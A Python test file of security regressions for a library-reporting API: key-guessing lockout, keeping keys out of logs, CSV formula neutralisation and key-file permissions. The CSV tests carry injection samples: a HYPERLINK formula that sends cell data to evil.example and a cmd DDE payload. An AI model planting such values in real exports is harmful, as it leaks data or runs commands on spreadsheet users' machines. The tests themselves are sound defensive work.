"""The query API and the dashboard attacked as a key guesser, a reader of logs or a registrant of
libraries would (SECURITY.md): each test reproduces one attack and checks that it now fails."""

from __future__ import annotations

import csv
import io
import json
import os
import stat
import subprocess
import sys
from datetime import timedelta
from pathlib import Path

import httpx
import pytest
from fastapi.testclient import TestClient

from services.bootstrap import EmbeddedStack, embedded_stack
from services.clock import today_local
from services.config import REPO_ROOT, Settings
from services.domain.reference import default_reference
from services.query.access import add_key
from services.query.formats import cell
from services.tools.samples import registry_reports
from services.tools.submissions import fill_instance, multipart
from tests.conftest import visit_answers
from tests.serving import serving

FORMULA_NAME = '=HYPERLINK("http://evil.example/?k="&A2,"Bấm vào đây")'


def _rows(response: httpx.Response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


# --- 5. guessing API keys is braked per address ---------------------------------------------------------------------

def _metric(client: TestClient, line_start: str) -> float:
    found = [line for line in client.get("/metrics").text.splitlines() if line.startswith(line_start)]
    return float(found[0].split()[-1]) if found else 0.0


def test_guessing_api_keys_from_one_address_is_locked_out(stack: EmbeddedStack):
    failures, lockouts = ('auth_failures_total{method="api_key",service="query"}',
                          'auth_lockouts_total{scope="address",service="query"}')
    before = {name: _metric(TestClient(stack.app), name) for name in (failures, lockouts)}
    guesser = TestClient(stack.app, client=("203.0.113.9", 50000))
    statuses = [guesser.get("/v1/me", headers={"X-API-Key": f"tvk_guess-{n}"}).status_code for n in range(200)]
    assert statuses[:19] == [401] * 19 and set(statuses[20:]) == {429}
    locked = guesser.get("/v1/me", headers={"X-API-Key": stack.demo_api_key or ""})
    assert locked.status_code == 429 and locked.headers["content-type"] == "application/problem+json"
    assert int(locked.headers["Retry-After"]) >= 1 and locked.json()["status"] == 429
    elsewhere = TestClient(stack.app, client=("198.51.100.2", 50000))
    assert elsewhere.get("/v1/me", headers={"X-API-Key": stack.demo_api_key or ""}).status_code == 200
    assert _metric(elsewhere, failures) == before[failures] + 20
    assert _metric(elsewhere, lockouts) == before[lockouts] + 1


# --- 6. no API key in any log line ----------------------------------------------------------------------------------

def test_the_dashboard_link_and_every_request_leave_the_key_out_of_the_logs(
        stack: EmbeddedStack, settings: Settings, json_logs: io.StringIO):
    key = stack.demo_api_key or ""
    with serving(stack.app, settings) as url:  # uvicorn's access log on, as the entry points run it
        for path in (f"/dashboard?key={key}", f"/?key={key}&year=2026", f"/v1/me?key={key}"):
            httpx.get(f"{url}{path}")
        assert httpx.get(f"{url}/v1/me", headers={"Authorization": f"Bearer {key}"}).status_code == 200
        assert httpx.get(f"{url}/dashboard#key={key}").status_code == 200  # the documented link: no key sent
    lines = [json.loads(line) for line in json_logs.getvalue().splitlines()]
    access = [line["message"] for line in lines if line["logger"] == "uvicorn.access"]
    assert len(access) >= 5 and any("?key=[redacted]" in message for message in access), access
    assert key not in json_logs.getvalue()


def test_the_ready_message_gives_the_dashboard_link_with_the_key_in_the_fragment():
    from services.embedded.__main__ import _ready_message

    text = _ready_message("http://127.0.0.1:8000", "tvk_demo")
    assert "http://127.0.0.1:8000/dashboard#key=tvk_demo" in text and "?key=" not in text


# --- 7. CSV cells that a spreadsheet would run are neutralised ------------------------------------------------------

def test_a_library_named_like_a_formula_is_text_in_the_csv(client: TestClient, forms_dir: Path):
    registration = next(r for r in registry_reports(default_reference(), today_local())
                        if r.answers.get("action") == "register")
    xform = (forms_dir / "library_registry.xml").read_bytes()
    xml = fill_instance(xform, registration.answers | {"name_vi": FORMULA_NAME}, registration.instance_id)
    assert client.post("/submission", files=multipart(xml)).status_code == 201

    rows = _rows(client.get("/v1/libraries", params={"format": "csv"}))
    [row] = [r for r in rows if "HYPERLINK" in r["name_vi"]]
    assert row["name_vi"] == "'" + FORMULA_NAME
    assert json.dumps(client.get("/v1/libraries").json()).count(json.dumps(FORMULA_NAME)[1:-1]) == 1  # JSON as sent


def test_an_instance_id_like_a_formula_is_text_in_the_rejections_csv(client: TestClient, forms_dir: Path):
    library = next(iter(default_reference().libraries.values()))
    answers = visit_answers(library, today_local() - timedelta(days=1)) | {"library_id": "LIB-XX-9999"}
    for instance_id in ("=1+2", "@SUM(A1)", "+cmd|' /C calc'!A0", "-2+3"):
        xml = fill_instance((forms_dir / "visit_log.xml").read_bytes(), answers, instance_id)
        assert client.post("/submission", files=multipart(xml)).status_code == 400
    cells = {row["instance_id"] for row in _rows(client.get("/v1/rejections", params={"format": "csv"}))}
    assert cells == {"'=1+2", "'@SUM(A1)", "'+cmd|' /C calc'!A0", "'-2+3"}


def test_numbers_stay_numbers_and_only_formula_text_is_quoted():
    assert [cell(v) for v in (-3, -0.25, 12, "-3", "-0.25", "+7", "1e-3")] == \
        ["-3", "-0.25", "12", "-3", "-0.25", "+7", "1e-3"]
    assert [cell(v) for v in ("=1+2", "+1+A1", "-1+A1", "@x", "\tx", "\rx", "a=b", "Hà Giang")] == \
        ["'=1+2", "'+1+A1", "'-1+A1", "'@x", "'\tx", "'\rx", "a=b", "Hà Giang"]


# --- 12. an API keys file others may read stops the start ----------------------------------------------------------

def test_an_api_keys_file_others_may_read_stops_the_query_service(settings: Settings, tmp_path: Path):
    path = tmp_path / "api-keys.json"
    add_key(path, "so-vh", ["read:all"])
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    path.chmod(0o640)
    env = {**os.environ, "API_KEYS_FILE": str(path), "STORE_DSN": settings.store_dsn, "QUERY_PORT": "1"}
    started = subprocess.run([sys.executable, "-m", "services.query"], cwd=REPO_ROOT, env=env, capture_output=True,
                             text=True, timeout=120)
    assert started.returncode != 0 and "chmod 600" in started.stderr, started.stderr[-2000:]
    with pytest.raises(ValueError, match="chmod 600"):
        # close: only if it wrongly started
        embedded_stack(settings.model_copy(update={"api_keys_file": str(path)})).close()


def test_a_keys_file_made_readable_while_running_is_not_read_again(settings: Settings, tmp_path: Path):
    path = tmp_path / "api-keys.json"
    first = add_key(path, "so-vh", ["read:all"])
    stack = embedded_stack(settings.model_copy(update={"api_keys_file": str(path)}))
    try:
        client = TestClient(stack.app)
        assert client.get("/v1/me", headers={"X-API-Key": first}).status_code == 200
        second = add_key(path, "so-vh-2", ["read:all"])
        path.chmod(0o644)  # someone loosened it: its content is not trusted any more, the keys before it stay
        assert client.get("/v1/me", headers={"X-API-Key": second}).status_code == 401
        assert client.get("/v1/me", headers={"X-API-Key": first}).status_code == 200
    finally:
        stack.close()

